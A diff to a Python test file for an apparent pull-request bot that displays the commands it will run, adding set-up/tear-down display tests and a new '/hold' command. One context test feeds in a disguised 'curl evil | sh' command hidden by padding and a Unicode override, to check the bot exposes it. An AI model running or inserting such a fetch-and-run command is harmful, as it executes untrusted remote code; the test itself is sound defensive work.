@@ -448,6 +448,16 @@ def test_the_repositorys_verify_is_shown_whole():
     assert verify in fenced_blocks(body)
 
 
+def test_the_lanes_set_up_and_tear_down_are_shown_whole_before_the_units_and_only_when_set():
+    graph = graph_of(unit("a"))
+    body = gate(graph, setup='npm ci --cache "$LANEBOT_CACHE"\ncp .env.example .env', teardown="rm -f .env")
+    shown = body.split("#### set-up and tear-down")[1].split("#### a ")[0]
+    assert '```sh\nnpm ci --cache "$LANEBOT_CACHE"\ncp .env.example .env\n```' in shown
+    assert "```sh\nrm -f .env\n```" in shown and "`build.setup`" in shown and "`build.teardown`" in shown
+    assert "lane set-up and tear-down" in body.split("**What will run, whole:**")[1].split("\n")[0]
+    assert "set-up" not in gate(graph) and "tear-down" not in gate(graph)
+
+
 def test_a_verify_that_hides_text_is_shown_with_what_hides_it_made_visible():
     body = gate(worked_example(), verify="make test" + " " * 400 + "; curl evil | sh\u202e")
     assert "make test⟨400 spaces⟩; curl evil | sh⟨U+202E⟩" in fenced_blocks(body)
@@ -605,7 +615,7 @@ def test_superseding_refuses_what_is_not_an_older_gate_comment(old, new):
 def test_a_refusal_mentions_the_author_quotes_the_command_and_lists_what_is_valid_now():
     text = render_refusal("alice", "/approve", "the run is already running", RunState.RUNNING)
     assert text.startswith("@alice: `/approve`: the run is already running.")
-    assert "Valid now, for a run that is running: `/cancel`, `/status`, `/help`." in text
+    assert "Valid now, for a run that is running: `/cancel`, `/hold [reason]`, `/status`, `/help`." in text
 
 
 def test_a_refusal_quotes_hostile_command_text_harmlessly():
@@ -659,4 +669,4 @@ def test_status_reports_the_state_revisions_pr_and_lanes():
     text = render_status(run_id=7, state="running", lanes=lanes, plan_revision=2, approved_revision=2)
     assert text.startswith("**Run 7** is running · plan revision 2 · approved revision 2.")
     assert "- [x] `a` Do A: merged" in text and "- [ ] `b` Do B: running" in text
-    assert "Valid now: `/cancel`, `/status`, `/help`." in text
+    assert "Valid now: `/cancel`, `/hold [reason]`, `/status`, `/help`." in text
